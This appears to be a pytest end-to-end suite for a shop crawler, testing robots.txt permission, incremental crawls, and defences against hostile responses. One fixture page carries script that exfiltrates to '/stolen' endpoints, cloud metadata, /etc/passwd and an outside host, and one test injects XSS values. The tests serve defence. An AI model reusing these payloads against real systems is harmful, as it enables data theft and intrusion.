"""Whole crawls of a replayed shop with the real command: complete, polite, resumable, incremental."""

from __future__ import annotations

import contextlib
import json
import os
import signal
import socket
import sqlite3
import time
from collections.abc import Callable, Iterator
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest

from crawler.spiders.browser import find_chromium
from tests.conftest import SERVER, Lookbook
from tests.e2e.crawl_drill import catalogue_state, crawl, settings_for
from tests.replay import SELLER_CONTACTS, Fault, FaultPlan, ReplayServer, SyntheticShop

MUSINSA = SyntheticShop("musinsa", products=240)
SSF = SyntheticShop("ssf", products=240)


@pytest.fixture
def server(request: pytest.FixtureRequest) -> Iterator[ReplayServer]:
    options: dict[str, Any] = getattr(request, "param", {})
    with ReplayServer(MUSINSA, SSF, **options) as server:
        yield server


def state_of(lookbook: Lookbook) -> dict[str, Any]:
    return catalogue_state(lookbook.settings["DATABASE_URL"])


def pages_asked_for(server: ReplayServer) -> list[str]:
    return [f"{request.host}{request.path}" for request in server.requests() if request.path != "/robots.txt"]


def one_category(shop: SyntheticShop) -> str:
    """A category of middling size."""
    sizes = {category.code: len(shop.members(category.code, shop.shop == "ssf")) for category in shop.categories}
    return max(sizes, key=lambda code: sizes[code] if sizes[code] <= 40 else 0)


# Completeness


@pytest.mark.parametrize("shop", [MUSINSA, SSF], ids=["musinsa", "ssf"])
def test_a_crawl_among_faults_and_kills_ends_as_an_undisturbed_one(
    shop: SyntheticShop, lookbook: Lookbook, make_catalogue: Callable[[str], str], tmp_path: Path
) -> None:
    calm = Lookbook(tmp_path, make_catalogue("postgresql" if SERVER else "sqlite"))
    undisturbed = crawl(calm, shop, FaultPlan.mix(), kills=0)
    killed = crawl(lookbook, shop, FaultPlan.mix(), kills=4)
    assert undisturbed.problems == []
    assert killed.problems == []
    assert killed.kills > 0
    assert killed.state == undisturbed.state


def test_sqlite_and_postgresql_end_with_identical_catalogues(
    make_catalogue: Callable[[str], str], tmp_path: Path, server: ReplayServer
) -> None:
    states = []
    for backend in ("sqlite", "postgresql"):
        lookbook = Lookbook(tmp_path, make_catalogue(backend))
        ran = lookbook("crawl", "run", "musinsa", "--category", "100", **settings_for(server, "musinsa"))
        assert ran.code == 0, ran.stderr
        states.append(state_of(lookbook))
    assert states[0]["products"]
    assert states[0] == states[1]


def test_contacts_of_sellers_are_nowhere_in_the_catalogue(lookbook: Lookbook, server: ReplayServer) -> None:
    ran = lookbook("crawl", "run", "musinsa", "--category", "003", **settings_for(server, "musinsa"))
    assert ran.code == 0, ran.stderr
    stored = json.dumps(state_of(lookbook), ensure_ascii=False)
    assert len(state_of(lookbook)["products"]) > 5
    for contact in SELLER_CONTACTS:
        assert contact not in stored


def test_a_limit_bounds_the_products_and_ends_the_lists(lookbook: Lookbook, server: ReplayServer) -> None:
    one_at_a_time = settings_for(server, "ssf") | {"SHOPS__SSF__CONCURRENCY": "1"}
    ran = lookbook("crawl", "run", "ssf", "--limit", "7", **one_at_a_time)
    assert ran.code == 0, ran.stderr
    pages = ran.summary["pages"]
    assert sum(pages["product"].values()) == 7
    assert pages["listing"]["skipped"] >= 4
    assert len([page for page in pages_asked_for(server) if "/list?" in page or "/selectProductList" in page]) <= 5
    refreshed = lookbook("crawl", "run", "ssf", "--refresh", "--limit", "2", **settings_for(server, "ssf"))
    assert sum(refreshed.summary["pages"]["product"].values()) == 2


def test_products_by_number(lookbook: Lookbook, server: ReplayServer) -> None:
    numbers = [number for number, product in MUSINSA.expected().products.items() if product.flaw is None][:3]
    arguments = [argument for number in numbers for argument in ("--products", number)]
    ran = lookbook("crawl", "run", "musinsa", *arguments, "--products", "999", **settings_for(server, "musinsa"))
    assert ran.code == 0, ran.stderr
    assert set(state_of(lookbook)["products"]) == set(numbers)
    assert ran.summary["pages"]["product"] == {"done": 3, "gone": 1}


def test_the_sitemap_leads_to_every_product(lookbook: Lookbook, server: ReplayServer) -> None:
    ran = lookbook("crawl", "run", "musinsa", "--sitemap", **settings_for(server, "musinsa"), timeout=240)
    assert ran.code == 0, ran.stderr
    found = set(state_of(lookbook)["products"])
    expected = MUSINSA.expected(sold_out=True)
    assert found == set(expected.products)


# Incremental


def test_an_unchanged_shop_costs_its_lists_alone(lookbook: Lookbook, server: ReplayServer) -> None:
    category = one_category(MUSINSA)
    settings = settings_for(server, "musinsa")
    first = lookbook("crawl", "run", "musinsa", "--category", category, **settings)
    before, seen = state_of(lookbook), len(pages_asked_for(server))
    second = lookbook("crawl", "run", "musinsa", "--category", category, **settings)
    assert (first.code, second.code) == (0, 0), second.stderr
    later = pages_asked_for(server)[seen:]
    assert later
    assert all("/category/" in page or "/plp/" in page for page in later)
    assert state_of(lookbook)["products"] == before["products"]
    assert state_of(lookbook)["snapshots"] == before["snapshots"]
    assert set(second.summary["pages"]["product"]) <= {"unchanged", "gone"}


def test_the_next_day_only_what_changed_is_fetched(lookbook: Lookbook, server: ReplayServer) -> None:
    settings = settings_for(server, "musinsa")
    codes = [argument for category in MUSINSA.categories for argument in ("--category", category.code)]
    assert lookbook("crawl", "run", "musinsa", *codes, **settings).code == 0
    before, seen = state_of(lookbook), len(pages_asked_for(server))
    tomorrow = MUSINSA.change(1)
    server.show(tomorrow)
    ran = lookbook("crawl", "run", "musinsa", *codes, **settings)
    assert ran.code == 0, ran.stderr
    after = state_of(lookbook)
    old, new = MUSINSA.expected().products, tomorrow.expected().products
    changed = {
        n for n in new if n in old and (new[n].sale_price, new[n].sold_out) != (old[n].sale_price, old[n].sold_out)
    }
    fresh = set(new) - set(before["products"])
    fetched = {page.split("/products/")[1] for page in pages_asked_for(server)[seen:] if "/products/" in page}
    assert changed
    assert fresh
    assert changed | fresh <= fetched
    assert len(fetched) < len(old) / 2
    for number, product in new.items():
        assert (after["products"][number]["sale_price"], after["products"][number]["name"]) == (
            product.sale_price,
            product.name,
        )
    history = [number for number, _, _ in after["snapshots"]]
    for number in changed:
        if new[number].sale_price != old[number].sale_price:
            assert history.count(number) == 2


def test_a_refresh_marks_products_gone_and_keeps_them(lookbook: Lookbook, server: ReplayServer) -> None:
    settings = settings_for(server, "ssf")
    assert lookbook("crawl", "run", "ssf", **settings).code == 0
    before = state_of(lookbook)["products"]
    tomorrow = SSF.change(1)
    server.show(tomorrow)
    ran = lookbook("crawl", "run", "ssf", "--refresh", **settings)
    assert ran.code == 0, ran.stderr
    after = state_of(lookbook)["products"]
    assert set(after) == set(before)
    removed = set(before) - {number for number in before if tomorrow.find(number) is not None} | {
        number for number in before if tomorrow.removed(SSF.index(number) or 0)
    }
    gone = {number for number, row in after.items() if row["state"] == "gone"}
    assert gone == removed


# Politeness


@pytest.mark.parametrize("server", [{"robots": "real"}], indirect=True)
@pytest.mark.parametrize("shop", ["musinsa", "ssf"])
def test_without_permission_the_shops_own_robots_end_the_crawl(
    shop: str, lookbook: Lookbook, server: ReplayServer
) -> None:
    ran = lookbook("crawl", "run", shop, **settings_for(server, shop))
    assert ran.code == 77
    assert "permission" in ran.stderr
    assert ran.summary["state"] == "refused"
    assert pages_asked_for(server) == []
    assert server.requests()


def test_musinsas_robots_as_it_was_served_ends_the_crawl(lookbook: Lookbook, samples: Path) -> None:
    captured = json.loads((samples / "shops" / "musinsa" / "robots_2026-05.json").read_text())["robots_txt"]
    with ReplayServer(MUSINSA, SSF, robots=captured) as server:
        for shop in ("musinsa", "ssf"):
            assert lookbook("crawl", "run", shop, **settings_for(server, shop)).code == 77
        assert {request.path for request in server.requests()} == {"/robots.txt"}


@pytest.mark.parametrize("server", [{"robots": "real"}], indirect=True)
def test_a_permission_is_relied_on_and_recorded(lookbook: Lookbook, server: ReplayServer) -> None:
    settings = settings_for(server, "musinsa")
    refused = lookbook("crawl", "run", "musinsa", "--limit", "2", **settings)
    allowed = lookbook(
        *("crawl", "run", "musinsa", "--limit", "2"),
        **settings,
        shops__musinsa__permission='{"reference": "agreement of 2026-01-02", "expires": "2099-12-31"}',
    )
    assert (refused.code, allowed.code) == (77, 0), allowed.stderr
    assert refused.summary["run"] == allowed.summary["run"]
    report = lookbook("crawl", "report", **settings)
    assert "permission: agreement of 2026-01-02" in report.stdout
    without = lookbook("crawl", "run", "musinsa", "--products", "2000045", **settings)
    assert without.code == 77
    assert "permission: none" in lookbook("crawl", "report", **settings).stdout


@pytest.mark.parametrize("server", [{"robots": "real"}], indirect=True)
@pytest.mark.parametrize(
    "permission",
    [
        {"reference": "ended", "expires": "2020-01-01"},
        {"reference": "for another host", "hosts": ["m.musinsa.com"]},
    ],
)
def test_a_permission_that_does_not_hold_changes_nothing(
    permission: dict[str, Any], lookbook: Lookbook, server: ReplayServer
) -> None:
    settings = settings_for(server, "musinsa") | {"SHOPS__MUSINSA__PERMISSION": json.dumps(permission)}
    assert lookbook("crawl", "run", "musinsa", **settings).code == 77
    assert pages_asked_for(server) == []


@pytest.mark.parametrize(
    ("server", "code", "words"),
    [({"robots": "error"}, 75, "can't be read (HTTP 503)"), ({"robots": "forbidden"}, 77, "does not allow")],
    indirect=["server"],
)
def test_robots_that_cannot_be_read_forbid_everything(
    lookbook: Lookbook, server: ReplayServer, code: int, words: str
) -> None:
    ran = lookbook("crawl", "run", "musinsa", **settings_for(server, "musinsa"))
    assert ran.code == code
    assert words in ran.stderr
    assert pages_asked_for(server) == []


@pytest.mark.parametrize("server", [{"robots": {"goods-detail.musinsa.com": "deny"}}], indirect=True)
def test_a_host_that_forbids_its_details_is_left_alone(lookbook: Lookbook, server: ReplayServer) -> None:
    ran = lookbook("crawl", "run", "musinsa", "--limit", "4", **settings_for(server, "musinsa"))
    assert ran.code == 0, ran.stderr
    assert ran.summary["pages"]["size_table"] == {"skipped": 4}
    assert not [page for page in pages_asked_for(server) if page.startswith("goods-detail")]


@pytest.mark.parametrize("server", [{"robots": "delay"}], indirect=True)
def test_crawl_delay_spaces_the_requests_of_a_host(lookbook: Lookbook, server: ReplayServer) -> None:
    ran = lookbook("crawl", "run", "ssf", "--limit", "3", **settings_for(server, "ssf"))
    assert ran.code == 0, ran.stderr
    times = [request.time for request in server.requests("www.ssfshop.com")]
    assert len(times) >= 5
    assert min(later - earlier for earlier, later in pairwise(times)) > 0.9


@pytest.mark.parametrize("kind", [Fault.FORBIDDEN, Fault.TOO_MANY])
def test_a_shop_that_refuses_again_and_again_ends_the_crawl_resumably(kind: Fault, lookbook: Lookbook) -> None:
    settings_of_refusal = {"CRAWL__REFUSALS": "3"}
    arguments = ("crawl", "run", "musinsa", "--category", one_category(MUSINSA))
    plan = FaultPlan.always(kind, r"www\.musinsa\.com/products/")
    with ReplayServer(MUSINSA, faults=plan) as refusing:
        refused = lookbook(*arguments, **{**settings_for(refusing, "musinsa"), **settings_of_refusal})
        asked = [page for page in pages_asked_for(refusing) if "/products/" in page]
    assert refused.code == 77
    assert "3 times in a row" in refused.stderr
    assert len(asked) < 20
    with ReplayServer(MUSINSA) as willing:
        resumed = lookbook(*arguments, **settings_for(willing, "musinsa"))
        lists = [page for page in pages_asked_for(willing) if "/category/" in page]
    assert resumed.code == 0, resumed.stderr
    assert resumed.summary["run"] == refused.summary["run"]
    assert lists == []
    assert set(state_of(lookbook)["products"]) == set(MUSINSA.expected([one_category(MUSINSA)]).products)


def test_retry_after_is_waited_for(lookbook: Lookbook) -> None:
    plan = FaultPlan.always(Fault.UNAVAILABLE_LATER, r"www\.ssfshop\.com/category/", times=1, retry_after=3)
    with ReplayServer(SSF, faults=plan) as server:
        ran = lookbook("crawl", "run", "ssf", "--category", one_category(SSF), **settings_for(server, "ssf"))
        lists = [request.time for request in server.requests() if request.path.startswith("/category/")]
    assert ran.code == 0, ran.stderr
    assert lists[1] - lists[0] > 2.5


def test_a_very_long_retry_after_ends_the_crawl_for_now(lookbook: Lookbook) -> None:
    plan = FaultPlan.always(Fault.UNAVAILABLE_LATER, r"www\.ssfshop\.com/category/", retry_after=7200)
    with ReplayServer(SSF, faults=plan) as server:
        ran = lookbook("crawl", "run", "ssf", "--category", one_category(SSF), **settings_for(server, "ssf"))
    assert ran.code == 75
    assert "7200 s" in ran.stderr


# Hostile answers


@pytest.mark.parametrize(
    ("kind", "reason"),
    [
        (Fault.REDIRECT_LOCAL, "private-address"),
        (Fault.REDIRECT_METADATA, "private-address"),
        (Fault.REDIRECT_LOOP, "too-many-redirects"),
        (Fault.ENDLESS, "too-large"),
        (Fault.GZIP_BOMB, "too-large"),
        (Fault.EMPTY, "empty-page"),
        (Fault.NOAI, "x-robots-tag"),
    ],
)
def test_a_hostile_product_page_is_a_named_rejection(kind: Fault, reason: str, lookbook: Lookbook) -> None:
    plan = FaultPlan.always(kind, r"www\.musinsa\.com/products/")
    with ReplayServer(SyntheticShop("musinsa", products=60, flaws=0), faults=plan) as server:
        ran = lookbook("crawl", "run", "musinsa", "--limit", "2", **settings_for(server, "musinsa"))
        strange = [page for page in pages_asked_for(server) if "stolen" in page or "meta-data" in page]
    assert ran.code == 0, ran.stderr
    assert ran.summary["pages"]["product"] == {"rejected": 2}
    assert ran.summary["reasons"] == {reason: 2, "limit": 1}
    assert strange == []


@pytest.mark.parametrize("kind", [Fault.RESET, Fault.UNAVAILABLE, Fault.TRUNCATED, Fault.CHUNKED_CUT])
def test_a_page_that_keeps_failing_is_left_for_later(kind: Fault, lookbook: Lookbook) -> None:
    arguments = ("crawl", "run", "musinsa", "--limit", "2")
    with ReplayServer(MUSINSA, faults=FaultPlan.always(kind, r"www\.musinsa\.com/products/")) as server:
        settings = settings_for(server, "musinsa") | {"CRAWL__ATTEMPTS": "2"}
        ran = lookbook(*arguments, **settings)
        assert ran.code == 75
        assert ran.summary["pages"]["product"] == {"failed": 2}
        server.faults = FaultPlan()
        again = lookbook(*arguments, **settings)
    assert again.code == 0, again.stderr
    assert again.summary["pages"]["product"] == {"done": 2}


def test_two_crawls_of_a_shop_do_not_run_at_once(lookbook: Lookbook) -> None:
    with ReplayServer(MUSINSA, faults=FaultPlan.always(Fault.SLOW, delay=5)) as server:
        settings = settings_for(server, "musinsa")
        first = lookbook.start("crawl", "run", "musinsa", "--limit", "2", **settings)
        try:
            while not server.log and first.poll() is None:
                time.sleep(0.1)
            second = lookbook("crawl", "run", "musinsa", "--limit", "2", **settings)
        finally:
            os.killpg(first.pid, signal.SIGKILL)
            first.wait()
    assert second.code == 75
    assert "another process" in second.stderr


# Saved pages and the browser


def test_saved_pages_are_stored_without_any_network(lookbook: Lookbook, tmp_path: Path, server: ReplayServer) -> None:
    from tests.replay.client import Client

    client = Client(server)
    folder = tmp_path / "saved"
    folder.mkdir()
    numbers = [number for number, product in MUSINSA.expected().products.items() if product.flaw is None][:3]
    for number in numbers:
        (folder / f"z_{number}.html").write_bytes(client.get(f"https://www.musinsa.com/products/{number}").data)
        answer = client.get(f"https://goods-detail.musinsa.com/api2/goods/{number}/actual-size").data
        (folder / f"actual_size_{number}.json").write_bytes(answer)
    for name in ("notes.html", "deeper/notes.html"):
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text("<p>not a page of the shop</p>")
    seen = len(server.log)
    ran = lookbook("crawl", "run", "musinsa", "--from-dir", str(folder))
    assert ran.code == 0, ran.stderr
    assert len(server.log) == seen
    products = state_of(lookbook)["products"]
    assert set(products) == set(numbers)
    assert ran.summary["pages"]["file"] == {"done": 6, "rejected": 2}
    again = lookbook("crawl", "run", "musinsa", "--from-dir", str(folder))
    assert again.code == 0
    assert state_of(lookbook)["products"] == products


@pytest.mark.skipif(find_chromium() is None, reason="needs Chromium: apt-get install chromium")
def test_the_information_tab_is_read_through_chromium(lookbook: Lookbook, server: ReplayServer) -> None:
    settings = settings_for(server, "ssf") | {"SHOPS__SSF__BROWSER": "true"}
    ran = lookbook("crawl", "run", "ssf", "--category", one_category(SSF), "--limit", "4", **settings)
    assert ran.code == 0, ran.stderr
    assert ran.summary["pages"]["information"] == {"done": 4}
    for product in state_of(lookbook)["products"].values():
        roles = [image["role"] for image in product["images"]]
        assert product["detail_text"]
        assert roles == sorted(roles, key=["main", "gallery", "detail"].index)
    assert any(product["measurements"] for product in state_of(lookbook)["products"].values())


HOSTILE_PAGE = """<!doctype html><link rel="canonical" href="https://www.ssfshop.com/{slug}/{number}/good">
<script type="application/ld+json">{{"@type": "Product", "name": "SY hostile tee", "brand": {{"name": "EVIL"}},
 "category": "여성 » 티셔츠", "offers": {{"price": 1000, "availability": "https://schema.org/InStock"}}}}</script>
<h2 class="brand-name">EVIL</h2><div class="gods-name" id="goodDtlTitle">SY hostile tee</div>
<em class="price">1,000</em>
<div id="godsTabView"><div class="gods-detail-img">
<img data-original="https://img.ssfshop.com/a.jpg"><p>tab</p></div></div>
<script>
for (let n = 0; n < 100; n++) document.body.insertAdjacentHTML("beforeend", `<img src="/picture-${{n}}.jpg">`);
fetch("/tab");
new RTCPeerConnection({{iceServers: [{{urls: "stun:127.0.0.1:{port}"}}]}}).createDataChannel("x");
</script><script>
for (const url of ["{server}/stolen", "http://localhost:{port}/stolen", "http://169.254.169.254/latest/meta-data",
                   "file:///etc/passwd", "https://elsewhere.example/"])
  fetch(url, {{mode: "no-cors"}}).then(answer => answer.text()).then(text => document.querySelector(".gods-detail-img")
    .insertAdjacentHTML("beforeend", "<p>LEAKED " + text + "</p>")).catch(() => {{}});
new WebSocket("ws://127.0.0.1:{port}/stolen");
navigator.sendBeacon("{server}/stolen");
document.body.insertAdjacentHTML("beforeend", '<iframe src="{server}/stolen"></iframe><img src="{server}/stolen">');
</script>"""


class UdpListener:
    """Hears what is sent to a UDP port of this machine."""

    def __init__(self, port: int) -> None:
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._socket.bind(("127.0.0.1", port))
        self._socket.setblocking(False)

    def recv_all(self) -> list[bytes]:
        heard = []
        with contextlib.suppress(BlockingIOError):
            while True:
                heard.append(self._socket.recv(2048))
        return heard

    def __enter__(self) -> UdpListener:
        return self

    def __exit__(self, *exc: object) -> None:
        self._socket.close()


@pytest.mark.skipif(find_chromium() is None, reason="needs Chromium: apt-get install chromium")
def test_a_page_in_chromium_reaches_nothing_but_its_shop(lookbook: Lookbook, tmp_path: Path) -> None:
    number = "GM0026010100001"
    folder = tmp_path / "captures"
    folder.mkdir()
    with ReplayServer(SSF) as free:
        port = int(free.url.rsplit(":", 1)[1])
    for slug in ("x", "EVIL"):
        text = HOSTILE_PAGE.format(slug=slug, number=number, server=f"http://127.0.0.1:{port}", port=port)
        (folder / f"{slug}.html").write_text(text)
    with ReplayServer(SSF, captures=folder, port=port) as server, UdpListener(port) as udp:
        settings = settings_for(server, "ssf") | {"SHOPS__SSF__BROWSER": "true"}
        ran = lookbook("crawl", "run", "ssf", "--products", number, **settings)
        assert ran.code == 0, ran.stderr
        asked = {request.path for request in server.requests()}
        assert udp.recv_all() == []
    assert ran.summary["pages"]["information"] == {"done": 1}
    assert asked == {"/robots.txt", f"/x/{number}/good", f"/EVIL/{number}/good", "/tab"}
    stored = json.dumps(state_of(lookbook), ensure_ascii=False)
    assert "LEAKED" not in stored
    assert "root:" not in stored


# The report


def test_the_report_accounts_for_every_page(lookbook: Lookbook, server: ReplayServer, tmp_path: Path) -> None:
    ran = lookbook("crawl", "run", "musinsa", **settings_for(server, "musinsa"))
    assert ran.code == 0, ran.stderr
    page = tmp_path / "report.html"
    report = lookbook("crawl", "report", "--html", str(page))
    assert report.code == 0, report.stderr
    assert report.summary["pages"] == ran.summary["pages"]
    pages = state_of(lookbook)["pages"]
    assert sum(sum(states.values()) for states in ran.summary["pages"].values()) == len(pages)
    html = page.read_text()
    assert "missing-name" in html
    assert "missing-name" in report.stdout


def test_a_report_of_a_catalogue_without_runs_says_what_to_do(lookbook: Lookbook) -> None:
    ran = lookbook("crawl", "report")
    assert ran.code == 65
    assert "lookbook crawl run" in ran.stderr


def test_a_name_with_markup_is_text_in_the_report(lookbook: Lookbook, server: ReplayServer, tmp_path: Path) -> None:
    if SERVER:
        pytest.skip("changes the SQLite file by hand")
    assert lookbook("crawl", "run", "ssf", "--limit", "2", **settings_for(server, "ssf")).code == 0
    path = lookbook.settings["DATABASE_URL"].removeprefix("sqlite:///")
    with sqlite3.connect(path) as connection:
        connection.execute("UPDATE product SET name = '<script>alert(1)</script>', url = 'javascript:alert(1)'")
    page = tmp_path / "report.html"
    assert lookbook("crawl", "report", "--html", str(page)).code == 0
    assert "<script>alert" not in page.read_text()
    assert "&lt;script&gt;" in page.read_text()
    assert "javascript:" not in page.read_text()
